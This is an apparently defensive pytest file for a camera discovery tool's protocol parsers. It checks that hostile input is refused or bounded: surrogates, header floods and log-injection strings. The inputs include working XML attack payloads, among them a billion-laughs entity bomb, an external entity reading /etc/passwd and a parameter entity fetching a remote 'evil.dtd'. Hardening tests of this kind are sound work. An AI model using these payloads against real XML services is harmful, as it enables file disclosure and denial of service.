"""Every XML-reading codec against hostile documents: bombs, DTDs, external entities, oversize,
invalid UTF-8, garbage. Each must return one Observation with a problem and no fields.

Then the codec cases of issue 19 (lone surrogates, a flood of ``<title>`` openers, a folded header
of megabytes, a codec error's log line), built by ``tests/hostile_inputs.py``."""

from __future__ import annotations

import json
import logging
from collections.abc import Callable

import pytest

from camsweep.models import RAW_LIMIT, ArtefactKind, Observation
from camsweep.protocols import dhip, http, onvif, sadp, upnp, wsd
from camsweep.shortform import short_form
from tests import hostile_inputs as hostile

BILLION_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10) for i in range(1, 10)
    )
    + b"]><ProbeMatch><DeviceSN>&lol9;</DeviceSN></ProbeMatch>"
)
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b"<ProbeMatch><DeviceSN>&xxe;</DeviceSN></ProbeMatch>"
)
PARAMETER_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.18.0.1/evil.dtd"> %p;]><root/>'
)
EXTERNAL_DTD = b'<?xml version="1.0"?><!DOCTYPE ProbeMatch SYSTEM "http://198.18.0.1/x.dtd"><ProbeMatch/>'
INVALID_UTF8 = b'<?xml version="1.0" encoding="utf-8"?><ProbeMatch><DeviceSN>\xff\xfe\xfd</DeviceSN></ProbeMatch>'
GARBAGE = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03" + bytes(range(256))
NOT_CLOSED = b"<ProbeMatch><DeviceSN>DS-2CD</DeviceSN>"


def _oversize(limit: int) -> bytes:
    return b"<root>" + b"<a>x</a>" * (limit // 8 + 10) + b"</root>"


PARSERS: list[tuple[str, Callable[..., Observation], ArtefactKind, int]] = [
    ("sadp", sadp.parse_reply, ArtefactKind.SADP_REPLY, 64 * 1024),
    ("wsd", wsd.parse_message, ArtefactKind.ONVIF_SCOPES, 64 * 1024),
    ("onvif-info", onvif.parse_device_information, ArtefactKind.ONVIF_DEVICE_INFO, 256 * 1024),
    ("onvif-net", onvif.parse_network_interfaces, ArtefactKind.ONVIF_DEVICE_INFO, 256 * 1024),
    ("upnp", upnp.parse_description, ArtefactKind.UPNP_DESCRIPTION, 256 * 1024),
]
CASES = [
    ("billion-laughs", BILLION_LAUGHS, "xml-forbidden: DTD not allowed"),
    ("external-entity", EXTERNAL_ENTITY, "xml-forbidden: DTD not allowed"),
    ("parameter-entity", PARAMETER_ENTITY, "xml-forbidden: DTD not allowed"),
    ("external-dtd", EXTERNAL_DTD, "xml-forbidden: DTD not allowed"),
    ("invalid-utf8", INVALID_UTF8, "xml-invalid:"),
    ("garbage", GARBAGE, "xml-invalid:"),
    ("not-closed", NOT_CLOSED, "xml-invalid:"),
    ("empty", b"", "garbage: empty document"),
]


@pytest.mark.parametrize(("name", "parse", "kind", "limit"), PARSERS, ids=[p[0] for p in PARSERS])
@pytest.mark.parametrize(("case", "data", "problem"), CASES, ids=[c[0] for c in CASES])
def test_hostile_xml(
    name: str, parse: Callable[..., Observation], kind: ArtefactKind, limit: int, case: str, data: bytes, problem: str
) -> None:
    obs = parse(data, probe="t", ip="198.18.0.99", mac="02:00:00:00:00:99")
    assert obs.kind is kind
    assert obs.problem is not None and obs.problem.startswith(problem), obs.problem
    assert obs.fields == {}
    assert obs.ip == "198.18.0.99" and obs.mac == "02:00:00:00:00:99"
    assert obs.raw is None or len(obs.raw) <= RAW_LIMIT
    if case != "invalid-utf8":  # decoding with replacement would repair that one
        # The same input as text must behave the same (short-form input arrives as str).
        text_obs = parse(data.decode("utf-8", errors="replace"), probe="t")
        assert text_obs.problem is not None and text_obs.fields == {}


@pytest.mark.parametrize(("name", "parse", "kind", "limit"), PARSERS, ids=[p[0] for p in PARSERS])
def test_oversize_is_refused_before_parsing(name: str, parse: Callable[..., Observation], kind: ArtefactKind, limit: int) -> None:
    data = _oversize(limit)
    obs = parse(data, probe="t")
    assert obs.problem == f"oversize: {len(data)} bytes > {limit}"
    assert obs.fields == {}
    assert obs.truncated is True
    assert obs.raw is not None and len(obs.raw) == RAW_LIMIT


def test_declared_gb2312_is_decoded_not_rejected() -> None:
    # GB2312-declared documents are common on Chinese firmware; expat cannot decode GB2312 itself.
    doc = '<?xml version="1.0" encoding="GB2312"?><ProbeMatch><DeviceDescription>摄像机</DeviceDescription></ProbeMatch>'
    obs = sadp.parse_reply(doc.encode("gb2312"), probe="t")
    assert obs.problem is None
    assert obs.fields["sadp.model"] == "摄像机"


# ------------------------------------------------------------------ issue 19: codec regressions
# Inputs are built by tests/hostile_inputs.py; their cost is measured by bench/hostile_codecs.py.


def _encodes(obs: Observation) -> None:
    json.dumps(obs.to_dict(), ensure_ascii=False).encode("utf-8")  # what last-scan.json does


def test_lone_surrogate_in_a_dhip_answer_is_replaced_and_recorded() -> None:
    obs = dhip.parse_reply(hostile.dhip_lone_surrogate_reply(), probe="dhip", ip="198.18.0.9")
    assert obs.fields["dhip.model"] == "IPC-\ufffd"
    assert obs.fields["dhip.serial"] == "6C01E93PAG69A7D"  # the rest of the answer is kept
    assert obs.mac == "08:ed:ed:87:42:7a"
    assert obs.problem is not None and obs.problem.startswith("unencodable-text: ")
    assert "\ud800" not in (obs.raw or "")
    _encodes(obs)
    assert Observation.from_dict(json.loads(json.dumps(obs.to_dict()))) == obs  # reloading changes nothing


def test_a_reply_with_a_replaced_surrogate_still_identifies_its_maker() -> None:
    # The replaced code point does not make the rest of the answer untrue: it is still Dahua firmware.
    from camsweep.verdicts import identify_result

    obs = dhip.parse_reply(hostile.dhip_lone_surrogate_reply(), probe="dhip", ip="198.18.0.9")
    assert obs.usable
    (item,) = identify_result([obs]).devices
    assert item.verdict.manufacturer.value == "dahua"
    assert any(hit.field.startswith("dhip.") for hit in item.verdict.hits)


def test_a_saved_observation_with_surrogates_is_repaired_keeping_its_problem() -> None:
    saved = {"probe": "sadp\udc80", "kind": "sadp_reply", "time": "2026-11-25T00:00:00+00:00",
             "raw": "<x>\ud800</x>", "fields": {"sadp.model\udfff": "DS-\udbff"}, "problem": "xml-invalid: \ud800"}
    obs = Observation.from_dict(saved)
    _encodes(obs)
    assert obs.fields == {"sadp.model\ufffd": "DS-\ufffd"}
    assert obs.problem == "xml-invalid: \ufffd; unencodable-text: 5 code point(s) replaced"


def test_short_form_text_with_surrogates_is_made_encodable() -> None:
    doc = {"ip": "198.18.0.9", "hostname": "cam-\ud800",
           "http": [{"port": 80, "headers": {"Server": "App-webs/"}, "body": "<title>NVR \udc00</title>"}],
           "dhip": hostile.dhip_device_info("IPC-\ud800"), "tls_subject": "CN=\ud800", "rtsp": "RTSP/1.0 200 OK\r\n\r\n"}
    observations = list(short_form(doc))
    assert len(observations) == 5
    for obs in observations:
        _encodes(obs)
    http_obs = next(o for o in observations if o.probe == "input" and "http.title" in o.fields)
    assert http_obs.fields["http.title"] == "NVR \ufffd"
    assert http_obs.problem == "unencodable-text: 3 code point(s) replaced"  # title, body and raw


def test_title_flood_is_no_title_and_a_title_before_it_is_found() -> None:
    flood = hostile.title_flood_body()
    obs = http.parse_raw_response(hostile.title_flood_response(), path="/", port=80, probe="t")
    assert obs.problem is None and obs.fields["http.status"] == "200"
    assert "http.title" not in obs.fields
    probe_obs = http.parse_response(200, [("Content-Type", "text/html")], flood, path="/", port=80, probe="t")
    assert probe_obs.problem is None and "http.title" not in probe_obs.fields
    assert http.title_of(b"<title>WEB SERVICE</title>" + flood) == "WEB SERVICE"
    assert http.title_of(flood[:70] + b"</TITLE >") == "<title>" * 9  # first opener to first closer


def test_folded_www_authenticate_is_bounded_and_still_read() -> None:
    from camsweep.protocols._common import HEADER_BLOCK_LIMIT, HEADER_VALUE_LIMIT

    capture = http.parse_raw_response(hostile.folded_auth_response(), path="/", port=80, probe="t")
    value = hostile.folded_auth_header_value()
    assert len(value) > 6_000_000
    probe = http.parse_response(401, [("WWW-Authenticate", value), ("Content-Length", "0")], b"",
                                path="/", port=80, probe="t")
    for obs in (capture, probe):
        assert obs.problem is None
        assert obs.fields["http.auth.realm"] == "Login to 6C01E93PAG69A7D"
        assert len(obs.fields["http.auth.scheme"].split("\n")) <= http.MAX_CHALLENGES
        assert len(obs.raw or "") <= HEADER_BLOCK_LIMIT + 100
    assert len(http.parse_challenges(value)) == http.MAX_CHALLENGES
    assert probe.fields["http.header.content-length"] == "0"  # a value is cut, the next header kept
    assert len(probe.fields["http.header.www-authenticate"]) <= HEADER_VALUE_LIMIT
    # A capture's header block is read to 64 KiB only: what lies beyond (here the rest of the fold
    # and Content-Length) is not read, and the message has no body.
    assert "http.header.content-length" not in capture.fields and "http.body" not in capture.fields


def test_megabytes_of_one_character_folds_are_read_to_the_header_limit() -> None:
    from camsweep.protocols._common import HEADER_VALUE_LIMIT

    obs = http.parse_raw_response(hostile.many_short_folds(), path="/", port=80, probe="t")
    assert obs.problem is None
    assert obs.fields["http.auth.realm"] == "r"
    value = obs.fields["http.header.www-authenticate"]
    assert value.startswith('Basic realm="r" a a a')
    assert len(value) <= HEADER_VALUE_LIMIT


class _Records(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.records: list[logging.LogRecord] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.records.append(record)


def test_a_codec_error_is_logged_as_one_short_line() -> None:
    from camsweep.protocols._common import LOG_DETAIL_LIMIT, guarded

    @guarded(ArtefactKind.HTTP_RESPONSE, raw_arg="raw")
    def broken(raw: bytes, *, probe: str) -> Observation:
        raise ValueError("bad input \x1b[2J\u202e " + raw.decode("latin-1"))

    # A handler on the logger itself: CLI tests earlier in a run may stop it propagating to caplog.
    logger, handler = logging.getLogger("camsweep"), _Records()
    level = logger.level
    logger.addHandler(handler)
    logger.setLevel(logging.DEBUG)
    try:
        obs = broken(b"x" * 60_000 + b"\n" * 10, probe="t")
    finally:
        logger.removeHandler(handler)
        logger.setLevel(level)
    (record,) = [r for r in handler.records if r.levelno >= logging.WARNING]
    line = record.getMessage()
    assert "\n" not in line and "\x1b" not in line and "\u202e" not in line
    assert "ValueError: bad input \\x1b[2J\\u202e xxx" in line
    assert len(line) <= LOG_DETAIL_LIMIT + len("broken: parser error on device input: ") + 60
    assert obs.problem is not None and obs.problem.startswith("parser-error: ValueError") and len(obs.problem) <= 512
    assert obs.fields == {}


def test_the_guard_never_raises_even_when_the_input_cannot_be_shown() -> None:
    # repr() refuses an int of over 4,300 digits; the guard used repr() to keep a Mapping as raw.
    huge = 10**5000
    obs = onvif.parse_device_information({"Model": huge}, probe="t")
    assert obs.problem is not None and obs.fields == {}
    assert obs.raw == "<dict that cannot be shown>"
    # On the wire such a number is not JSON this codec accepts: a plain problem, not a parser error.
    packet = dhip.encode(b'{"method":"client.notifyDevInfo","params":{"deviceInfo":{"DeviceType":' + b"1" * 5000 + b"}}}")
    assert dhip.parse_reply(packet, probe="t").problem.startswith("not-json: ")
